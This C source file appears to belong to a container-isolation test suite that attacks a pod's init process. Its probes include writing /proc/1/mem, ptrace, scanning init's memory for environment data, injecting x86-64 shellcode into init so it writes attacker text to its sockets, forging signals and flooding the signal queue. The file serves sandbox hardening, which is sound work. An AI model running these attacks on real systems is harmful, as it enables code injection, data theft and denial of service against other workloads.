/* SPDX-License-Identifier: Apache-2.0 */
/* The pod's init: its program, its memory, its rights, and the signals that it gets. */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>

/* A running program can't be written to anyway (ETXTBSY): what counts is that its mount is read-only. */
static void runtime(void)
{
    if (utimensat(AT_FDCWD, "/proc/1/exe", NULL, 0) >= 0)
        through("the program of the pod's init can be changed");
    open_for_writing("/proc/1/exe");
    climb("/proc/1/exe/..");
}

static long trace(long pid)
{
    return ptrace(PTRACE_SEIZE, (pid_t) pid, NULL, NULL);
}

static void memory_of_init(void)
{
    int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);

    if (fd >= 0)
        through("the memory of the pod's init can be written");
    if (!is_refusal(outcome(trace, 1)))
        through("the pod's init can be traced");
}

/* What apps see as /proc/1 is the first process of their own namespace. Whoever may take it over must not win
 * anything, from its first instruction on. */
static void rights_at_once(void)
{
    FILE *file = fopen("/proc/1/status", "re");
    unsigned long long rights;
    unsigned filters = 0;
    char line[4096];

    while (file && fgets(line, sizeof(line), file))
        if (sscanf(line, "Seccomp_filters: %u", &filters) != 1 &&
            (sscanf(line, "CapPrm: %llx", &rights) == 1 || sscanf(line, "CapEff: %llx", &rights) == 1 ||
             sscanf(line, "CapInh: %llx", &rights) == 1) &&
            rights != 0)
            through("/proc/1 has %s", line);
    if (file)
        fclose(file);
    if (filters == 0)
        through("/proc/1 may call all of the kernel");
}

/* Whether that procfs shows the pod's init. */
static void look_for_init(const char *proc)
{
    for (int pid = 1; pid < 100; pid++) {
        char path[128], name[32] = "";
        FILE *file;

        snprintf(path, sizeof(path), "%s/%d/comm", proc, pid);
        file = fopen(path, "re");
        if (file && fgets(name, sizeof(name), file) && strncmp(name, "rkt-init", 8) == 0)
            through("%s is the pod's init", path);
        if (file)
            fclose(file);
    }
}

static void init_unseen(void)
{
    char path[64], name[32] = "";
    FILE *file = fopen("/proc/1/comm", "re");

    if (!file || !fgets(name, sizeof(name), file) || strcmp(name, "rkt-reaper\n") != 0)
        through("/proc/1 is %s", name);
    if (file)
        fclose(file);
    look_for_init("/proc");
    look_for_init("/proc/1/root/proc");
    look_for_init("/proc/1/root/kept");
    look_for_init("/proc/1/cwd/proc");
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
        if (access(path, F_OK) >= 0)
            through("%s is open", path);
        look_for_init(path);
    }
}

/* It is the init's clone. $OWN_NETWORK is in the init's memory, for it is in the app's environment. */
static void memory_of_reaper(void)
{
    static char buffer[1 << 20];
    FILE *maps = fopen("/proc/1/maps", "re");
    int memory = open("/proc/1/mem", O_RDONLY | O_CLOEXEC);
    unsigned long long from, to;
    char line[512];

    while (maps && memory >= 0 && fgets(line, sizeof(line), maps)) {
        if (sscanf(line, "%llx-%llx", &from, &to) != 2)
            continue;
        for (; from < to; from += sizeof(buffer) / 2) {
            ssize_t n = pread(memory, buffer, sizeof(buffer), (off_t) from);

            if (n > 0 && memmem(buffer, (size_t) n, "OWN_NETWORK", 11)) {
                through("words of the init at %llx: %s", from, line);
                from = to;
            }
        }
    }
    if (memory >= 0)
        close(memory);
    if (maps)
        fclose(maps);
}

/* Who gets it killed ends the other apps, too. */
static void files_of_reaper(void)
{
    static const char *const files[] = { "oom_score_adj", "oom_adj",         "mem",     "comm",
                                         "clear_refs",    "coredump_filter", "sched",   "autogroup",
                                         "timerslack_ns", "attr/current",    "uid_map", "setgroups" };
    char path[64];

    for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
        snprintf(path, sizeof(path), "/proc/1/%s", files[i]);
        open_for_writing(path);
        snprintf(path, sizeof(path), "/proc/1/task/1/%s", files[i]);
        open_for_writing(path);
    }
}

#ifdef __x86_64__
/* Sends the text to each descriptor that is a socket, then sleeps for ever. */
__asm__(".pushsection .rodata\n"
        "puppet:\n"
        "    movl $3, %ebx\n"
        "1:  movl %ebx, %edi\n"
        "    leaq puppet_text(%rip), %rsi\n"
        "    movl $64, %edx\n"
        "    movl $0x4040, %r10d\n" /* MSG_DONTWAIT | MSG_NOSIGNAL */
        "    xorl %r8d, %r8d\n"
        "    xorl %r9d, %r9d\n"
        "    movl $44, %eax\n"
        "    syscall\n"
        "    incl %ebx\n"
        "    cmpl $256, %ebx\n"
        "    jb 1b\n"
        "2:  movl $34, %eax\n"
        "    syscall\n"
        "    jmp 2b\n"
        "puppet_text:\n"
        "    .fill 64, 1, 10\n"
        "puppet_end:\n"
        ".popsection\n");
extern const char puppet[], puppet_text[], puppet_end[];

/* Where the system call that the pod's init waits in returns to; 0: it can't be told. */
static off_t where_init_waits(void)
{
    char line[256] = "";

    for (unsigned i = 0; i < 40; i++) {
        FILE *file = fopen("/proc/1/syscall", "re");
        const char *last = file && fgets(line, sizeof(line), file) ? strrchr(line, ' ') : NULL;

        if (file)
            fclose(file);
        if (last && *line >= '0' && *line <= '9')
            return (off_t) strtoul(last, NULL, 16);
        usleep(50 * 1000);
    }
    return 0;
}

/* The pod's init runs what we write there, and is woken. Its text goes to whoever it has a socket to: $WORDS.
 */
static void puppet_init(void)
{
    int memory = open("/proc/1/mem", O_RDWR | O_CLOEXEC),
        console = open("/dev/console", O_WRONLY | O_CLOEXEC);
    const char *words = getenv("WORDS");
    size_t size = (size_t) (puppet_end - puppet);
    off_t where = where_init_waits();
    char code[512];

    memcpy(code, puppet, size);
    if (words)
        memcpy(code + (puppet_text - puppet), words, strlen(words));
    if (where == 0 || pwrite(memory, code, size, where) != (ssize_t) size || write(console, "\n", 1) != 1)
        printf("%s=not tried: %s\n", attack, strerror(errno));
    else
        printf("%s=sent\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}
#else
static void puppet_init(void)
{
    printf("%s=not tried\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}
#endif

/* As if the host had sent it: sender 0, which the kernel lets anybody claim. */
static void queue_forged(int number)
{
    siginfo_t info = { .si_signo = number, .si_code = SI_QUEUE };

    syscall(SYS_rt_sigqueueinfo, 1, number, &info);
}

/* A descriptor that has the kernel send it. */
static void send_by_descriptor(int number)
{
    int pair[2];

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return;
    fcntl(pair[0], F_SETOWN, 1);
    fcntl(pair[0], F_SETSIG, number);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0)
        through("no signal was sent");
    close(pair[0]);
    close(pair[1]);
}

/* A child of whoever is our parent, which ends with a signal to it. */
static void send_by_sibling(int number)
{
    if (syscall(SYS_clone, CLONE_PARENT | number, NULL, NULL, NULL, NULL) == 0)
        _exit(0);
}

/* Signals that are queued count for the user, in all pods and on the host. Without room in that queue the
 * kernel delivers without saying whose a signal is, as if the host had sent it. */
static void fill_queue(void)
{
    sigset_t all;

    sigfillset(&all);
    sigprocmask(SIG_SETMASK, &all, NULL);
    while (sigqueue(getpid(), SIGRTMIN + 10, (union sigval){ 0 }) >= 0)
        ;
}

static void send_all(void)
{
    for (int number = 1; number <= SIGRTMAX; number++) {
        queue_forged(number); /* first: one that is there already is not sent again */
        kill(1, number);
        send_by_descriptor(number);
    }
}

/* Whether the init minds shows only later, from outside. */
static void signals(void)
{
    send_by_sibling(SIGTERM);
    send_by_sibling(SIGRTMIN + 4);
    send_all();
    fill_queue();
    send_all();
}

_Noreturn static void keep_queue_full(void)
{
    for (;;) {
        fill_queue();
        usleep(10 * 1000);
    }
}

_Noreturn static void send_without_end(unsigned pause_us)
{
    const int numbers[] = { SIGTERM, SIGINT, SIGHUP, SIGPWR, SIGABRT, SIGCHLD, SIGRTMIN + 3, SIGRTMIN + 4 };

    for (;;) {
        for (size_t i = 0; i < sizeof(numbers) / sizeof(*numbers); i++) {
            kill(1, numbers[i]);
            queue_forged(numbers[i]);
            kill(getppid(), SIGCONT);
        }
        usleep(pause_us);
    }
}

static void end(_unused int number)
{
    _exit(0);
}

/* What tells the pod to stop must not drown among these. Two send nearly without a pause. Not with nice(2):
 * Linux 6.18 then has the whole machine wait for these, for minutes. */
static void senders(void)
{
    signal(SIGTERM, end);
    if (fork() == 0)
        keep_queue_full();
    for (unsigned i = 0; i < 30; i++)
        if (fork() == 0)
            send_without_end(i < 2 ? 50 : 2000);
    printf("%s=begun\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}

const Attack init_attacks[] = {
    { "runtime", runtime },
    { "memory-of-init", memory_of_init },
    { "rights-at-once", rights_at_once },
    { "init-unseen", init_unseen },
    { "memory-of-reaper", memory_of_reaper },
    { "files-of-reaper", files_of_reaper },
    { "puppet-init", puppet_init },
    { "signals", signals },
    { "senders", senders },
    {},
};
